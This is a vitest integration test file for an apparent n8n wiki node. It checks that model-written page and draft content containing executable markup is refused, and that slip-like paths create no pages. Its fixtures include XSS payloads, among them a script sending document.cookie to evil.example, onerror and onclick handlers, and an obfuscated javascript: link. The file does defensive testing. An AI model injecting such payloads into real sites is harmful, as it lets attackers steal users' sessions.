import type { IDataObject } from 'n8n-workflow';
import { describe, expect, it } from 'vitest';
import type { Simulator } from '../support/simulator/index.mts';
import { byPath, EARLIER, outcomeOf, outputOf } from '../support/integration/action-node.mts';
import { openSite, useScenes } from '../support/integration/scene.mts';

/* What a model writes runs for nobody: a draft is opened by people who may publish it. */

useScenes();

const RUNS = [
	'<p>New.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
	'<img src="x" onerror="alert(1)">',
	'<a href="java&#10;script:alert(1)">x</a>',
	'<iframe src="https://evil.example/"></iframe>',
	'<p>{{ wiki.page("Private") }}</p>',
];

describe.each(['page', 'draft'])('what a model writes that runs (%s)', (resource) => {
	async function outcome(site: Simulator, operation: string, more: object, asTool = true) {
		const page = byPath('A');
		const parameters = { resource, operation, page, ...more } as unknown as IDataObject;
		const [item] = await outputOf(site, { parameters, asTool });
		return item!;
	}
	const writes = ({ apiCalls }: Simulator) => apiCalls.filter(({ method }) => method !== 'GET');
	const textOf = (site: Simulator) => {
		const page = site.site.page('A');
		return page.draft?.html ?? page.html;
	};

	it.each(RUNS)(
		`Create or Update of a ${resource} refuses from a model, and takes from a workflow, %s`,
		async (contents) => {
			const site = await openSite();
			const { error } = await outcome(site, 'createOrUpdate', { contents });
			expect(error).toMatch(/^'Contents' has something that runs, so nothing was saved: ./);
			site.site.createPage('A', { html: '<p>old</p>', at: EARLIER });
			expect(await outcome(site, 'createOrUpdate', { contents })).toEqual({ error });
			expect(writes(site)).toEqual([]);
			await outcome(site, 'createOrUpdate', { contents }, false);
			expect(textOf(site)).toContain(contents);
		},
	);

	it(`Create or Update of a ${resource} lets a model keep what runs`, async () => {
		const site = await openSite();
		site.site.createPage('A', { html: RUNS.join(''), at: EARLIER });
		const contents = `<h2>More</h2>${RUNS.join('')}`;
		expect(await outcome(site, 'createOrUpdate', { contents })).not.toHaveProperty('error');
		expect(textOf(site)).toContain('<h2>More</h2>');
	});

	it(`Append to a ${resource} refuses from a model the other half of double braces`, async () => {
		const site = await openSite();
		site.site.createPage('A', { html: '<p>Text</p>{', at: EARLIER });
		const append = async (contents: string) =>
			await outcome(site, 'createOrUpdate', { contents, options: { mode: 'append' } });
		const { error } = await append('{ wiki.page("Private") }}<p>More</p>');
		expect(error).toMatch(/^'Contents' has something that runs, so nothing was saved: {{/);
		expect(writes(site)).toEqual([]);
		expect(await append('<p>A {code} and more</p>')).not.toHaveProperty('error');
	});

	it.each([
		['old', RUNS[0]!],
		['<a href="/x"', '<a href="javascript:alert(1)"'],
		['<a', '<a onclick="alert(1)"'],
	])(`Replace Text in a ${resource} refuses from a model, for %s, %s`, async (find, replaceWith) => {
		const site = await openSite();
		site.site.createPage('A', { html: '<p>old</p><a href="/x">y</a>', at: EARLIER });
		if (resource === 'draft') site.site.activateDraft('A', { at: EARLIER });
		const before = textOf(site);
		const { error } = await outcome(site, 'replaceText', { find, replaceWith });
		expect(error).toMatch(/^'Replace With' has something that runs, so nothing was saved: ./);
		expect(textOf(site)).toBe(before);
	});

	it(`Replace Text in a ${resource} lets a model change a text beside what runs`, async () => {
		const site = await openSite();
		site.site.createPage('A', { html: RUNS.join(''), at: EARLIER });
		if (resource === 'draft') site.site.activateDraft('A', { at: EARLIER });
		await outcome(site, 'replaceText', { find: 'New.', replaceWith: 'Newer.' });
		expect(textOf(site)).toContain('Newer.');
	});
});

describe.each(['page', 'draft'])('a path that is a slip (%s)', (resource) => {
	const run = (path: string, asTool: boolean) => ({
		parameters: {
			...{ resource, operation: 'createOrUpdate', contents: '<p>x</p>' },
			page: byPath(path),
		} as unknown as IDataObject,
		asTool,
	});
	const opened = async () => {
		const site = await openSite();
		site.site.createPage('Guides');
		// Above N/A.
		site.site.createPage('N');
		const paths = () => [...site.site.pages.byId.values()].map(({ path }) => path);
		return { site, paths, before: paths() };
	};

	it.each([
		...['null', 'None', 'N/A', 'undefined', 'NaN', '[object Object]'],
		...['Nowhere/Setup', 'Guides/Nowhere/Setup'],
	])(`Create or Update of a ${resource} creates no page "%s" for a model`, async (path) => {
		const { site, paths, before } = await opened();
		const [item] = await outputOf(site, run(path, true));
		expect(item!.error).toMatch(/^There is no page ".+", so nothing was saved\. .*below a page that/);
		expect(paths()).toEqual(before);
		expect(await outputOf(site, run(path, false))).toMatchObject([{ created: true }]);
		// It is no slip where there is such a page.
		const [again] = await outputOf(site, run(path, true));
		expect(again).not.toHaveProperty('error');
	});

	it.each(['Setup', 'Guides/None', 'guides/Setup'])(
		`Create or Update of a ${resource} creates the page "%s" for a model`,
		async (path) => {
			const { site } = await opened();
			expect(await outputOf(site, run(path, true))).toMatchObject([{ created: true }]);
		},
	);

	it.each([true, false])(
		`Create or Update of a ${resource} takes a number for a path only with a slash (as a tool: %s)`,
		async (asTool) => {
			const { site, paths, before } = await opened();
			const { items, thrown } = await outcomeOf(site, run('42', asTool));
			const { message } = (thrown ?? { message: items![0]!.json.error }) as { message: string };
			expect(message).toMatch(/^There is no page at the path "42", so nothing was saved/);
			expect(paths()).toEqual(before);
			expect(await outputOf(site, run('/42', asTool))).toMatchObject([{ created: true }]);
			const [again] = await outputOf(site, run('42', asTool));
			expect(again).not.toHaveProperty('error');
		},
	);
});
